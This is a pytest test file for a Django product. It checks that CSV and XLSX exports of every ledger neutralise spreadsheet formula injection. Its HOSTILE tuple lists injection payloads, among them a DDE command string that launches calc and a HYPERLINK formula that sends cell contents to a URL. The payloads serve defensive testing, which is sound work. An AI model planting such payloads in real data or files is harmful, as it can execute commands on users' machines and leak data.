"""No cell of any ledger's file is a formula, whatever texts the records hold. The judge here knows nothing of the writer."""

from __future__ import annotations

import csv
import io
import re
import sys
import zipfile
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlencode
from uuid import uuid4
from xml.etree import ElementTree

import pytest
from django.apps import apps
from django.db import models
from django.urls import reverse

from tests.access.test_detection import versions as versions
from tests.access.test_disclosures import records as records
from tests.access.test_exports import ASK
from tests.access.test_exports import requests as requests
from tests.access.test_process import SCOPE
from tests.access.test_relay import rows as rows
from tests.access.test_supervision import a_card
from tests.access.test_supervision import orders as orders
from tests.access.world import NOW, World, way_out
from zhengxiao.kernel.exchange.models import Rejection
from zhengxiao.kernel.exports.models import ExportRequest
from zhengxiao.kernel.timeline.api import Subject, record
from zhengxiao.kernel.timeline.models import Entry
from zhengxiao.kernel.ui.api import Ledger
from zhengxiao.lib.actors import Actor
from zhengxiao.mechanisms.detection.models import BackTest, Finding, Hit
from zhengxiao.mechanisms.supervision.models import Card

pytestmark = pytest.mark.django_db
HOSTILE = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)",
    " \u200b=1+1", "\ufeff=1+1", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '",=1+1', "=1+1;甲\n=2+2",
    '=HYPERLINK("https://example.com/?"&A1)',
)  # fmt: skip
TEXTS = frozenset({
    "name", "short_name", "display_name", "applicant_name", "subject_name", "item_name", "title", "summary", "purpose",
    "conditions", "reason", "note", "evidence_text", "made_by_name", "file_name", "result_no", "document_no", "last_error",
})  # fmt: skip
"""Fields that hold what somebody wrote. Never codes, states, or what the software computes with."""
FROZEN = (Entry, Card)
"""Never written over: here they are hostile from the beginning."""
LEDGERS: dict[str, tuple[str, str]] = {
    # ledger: who takes the file, at which route
    "cases": ("auditor", "cases:ledger"),
    "catalogue.items": ("auditor", "catalogue:items"),
    "catalogue.versions": ("auditor", "catalogue:versions"),
    "catalogue.basic": ("auditor", "catalogue:basic"),
    "catalogue.claims": ("auditor", "catalogue:claims"),
    "console.accounts": ("system_admin", "console:accounts"),
    "console.audit": ("auditor", "console:audit"),
    "console.imports": ("auditor", "console:imports"),
    "console.sample": ("auditor", "console:style-ledger"),
    "detection.findings": ("auditor", "detection:findings"),
    "detection.hits": ("auditor", "detection:back-test-cases"),
    "detection.rules": ("auditor", "detection:rules"),
    "disclosures": ("auditor", "disclosures:ledger"),
    "exports.requests": ("auditor", "console:exports"),
    "process.cases": ("auditor", "process:cases"),
    "process.items": ("auditor", "process:items"),
    "relay": ("auditor", "relay:ledger"),
    "supervision_cards": ("auditor", "supervision:cards"),
    "supervision_orders": ("auditor", "supervision:orders"),
    "webhooks.messages": ("system_admin", "console:webhook-messages"),
    "webhooks.targets": ("system_admin", "console:webhooks"),
    # Made per question from the ledger of cases, or from the dimensions of a figure.
    "cockpit.cases": ("supervisor", "cockpit:cases"),
    "cockpit.figure": ("supervisor", "cockpit:figure cases.accepted"),
    "cockpit.figure-cases": ("supervisor", "cockpit:figure-cases cases.accepted numerator"),
}

NO_FILE = {"supervision_rules"}
"""Columns and filters of a resource for machines alone; no page shows it, so no file is made of it."""


def static_ledgers() -> dict[str, Ledger]:
    """Every ledger that stands in a module of the product."""
    reverse("cases:ledger")  # the routes bring all pages in
    found: dict[str, Ledger] = {}
    for name, module in list(sys.modules.items()):
        if name.startswith("zhengxiao.") and ".tests" not in name:
            found |= {value.name: value for value in vars(module).values() if isinstance(value, Ledger)}
    return found


def test_every_ledger_is_here() -> None:
    assert set(static_ledgers()) - set(LEDGERS) == NO_FILE


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet may take the text of a CSV cell for a formula: its first sign that is seen begins one."""
    seen = re.sub(r"^[ \ufeff\u200b-\u200f\u2060\u3000\xa0]+", "", cell)
    return seen[:1] in set("=+-@\t\r\n＝＋－＠") and not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell)


def csv_cells(content: bytes) -> list[str]:
    return [
        cell for line in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in line
    ]


def xlsx_cells(content: bytes) -> Iterator[tuple[str, str]]:
    """(type, text) of every cell; a formula has type "formula"."""
    space = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        names = book.namelist()
        assert not [name for name in names if "externalLink" in name or "connections" in name]
        shared = []
        if "xl/sharedStrings.xml" in names:
            strings = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))  # noqa: S314
            shared = ["".join(part.text or "" for part in one.iter(f"{{{space['m']}}}t")) for one in strings]
        for name in names:
            if name.startswith("xl/worksheets/sheet"):
                sheet = ElementTree.fromstring(book.read(name))  # noqa: S314
                for cell in sheet.iterfind(".//m:c", space):
                    kind, value = cell.get("t", "n"), cell.findtext("m:v", "", space)
                    inline = "".join(part.text or "" for part in cell.iterfind(".//m:is//m:t", space))
                    kind = "formula" if cell.find("m:f", space) is not None else kind
                    yield kind, shared[int(value)] if kind == "s" else inline or value


def change_texts() -> None:
    """Write hostile texts into every field in which somebody's words stand, each row another one."""
    for model in apps.get_models():
        if not model.__module__.startswith("zhengxiao.") or model in FROZEN:
            continue
        longest = {
            field.name: field.max_length
            for field in model._meta.concrete_fields
            if field.name in TEXTS
            and isinstance(field, models.CharField | models.TextField)
            and not field.choices
        }
        keys = list(model._base_manager.order_by("pk").values_list("pk", flat=True))
        for number, text in enumerate(HOSTILE):
            if longest and keys[number :: len(HOSTILE)]:
                told = model._base_manager.filter(pk__in=keys[number :: len(HOSTILE)])
                told.update(**{name: text[:most] for name, most in longest.items()})


@pytest.fixture
def hostile(world: World, request: pytest.FixtureRequest) -> BackTest:
    """A row of everything, and then hostile words in all of it."""
    for name in ("records", "requests", "rows", "orders"):
        request.getfixturevalue(name)
    versions = request.getfixturevalue("versions")
    way_out(world, "active")
    case, version = world.cases["H", "granted"], versions["swift"]
    placed = {"region_id": case.region_id, "department_id": case.department_id, "unit_id": case.unit_id}
    test = BackTest.objects.create(
        version=version, first=NOW.date(), after=NOW.date(), cut_off=NOW, asked_at=NOW, state="done"
    )
    Hit.objects.create(
        back_test=test,
        case=case,
        key=case.pk,
        change="new",
        level="yellow",
        at=NOW,
        month="2026-03",
        **placed,
    )
    Finding.objects.create(
        version=version, rule=version.rule, case=case, key=case.pk, mode="active", level="yellow", at=NOW, found_at=NOW,
        evidence_text="", run=uuid4(), **placed,
    )  # fmt: skip
    change_texts()
    for text in HOSTILE:
        a_card(world, "H", "issued", text)
        data = {"form": text, "conditions": text}
        record(
            fact="console.audit_exported",
            subject=Subject("user", 0),
            actor=Actor(user_id=None, name=text),
            at=NOW,
            data=data,
        )
    return test


def address_of(world: World, ledger: str, test: BackTest, form: str) -> tuple[str, str]:
    who, route = LEDGERS[ledger]
    name, *words = route.split()
    item = world.versions["H", "published"].item_id
    special: dict[str, list[Any]] = {
        "detection:back-test-cases": [test.pk],
        "process:cases": [item, SCOPE, "all", "all"],
    }
    args = special.get(name, words)
    known = static_ledgers().get(ledger)
    columns = [("cols", column.key) for column in known.columns] if known else []
    return who, f"{reverse(name, args=args)}?{urlencode([('export', form), *columns])}"


def test_no_cell_of_any_ledger_is_a_formula(world: World, hostile: BackTest, tally: list[int]) -> None:
    for ledger in LEDGERS:
        who, address = address_of(world, ledger, hostile, "csv")
        answer = world.clients[who].get(address)
        assert answer.status_code == 200, (ledger, answer.status_code)
        cells = csv_cells(b"".join(answer.streaming_content))
        assert [cell for cell in cells if is_formula(cell)] == [], ledger
        assert any(cell[:1] == "'" and is_formula(cell[1:]) for cell in cells), (
            f"{ledger} holds nothing hostile"
        )
        who, address = address_of(world, ledger, hostile, "xlsx")
        found = list(xlsx_cells(b"".join(world.clients[who].get(address).streaming_content)))
        assert {kind for kind, _text in found} <= {"s", "inlineStr", "n"}, ledger
        assert any(is_formula(text) for kind, text in found if kind != "n"), f"{ledger} holds nothing hostile"
        tally[0] += len(cells)


def test_refused_rows_that_leave_by_approval_hold_no_formula(world: World) -> None:
    client, second = world.clients["supervisor"], world.clients["security_admin"]
    run = world.runs["own"]
    Rejection.objects.filter(run=run).update(raw=[{"row": 2, "values": [[text, text] for text in HOSTILE]}])
    address = reverse("console:import-rejects", args=[run.pk])
    assert client.post(address, ASK).status_code == 302
    row = ExportRequest.objects.latest("pk")
    assert second.post(reverse("console:export-move", args=[row.pk, "approve"])).status_code == 302
    answer = client.post(address, {"act": "fetch", "request": row.pk})
    cells = csv_cells(b"".join(answer.streaming_content))
    assert any(cell[:1] == "'" for cell in cells)
    assert [cell for cell in cells if is_formula(cell)] == []
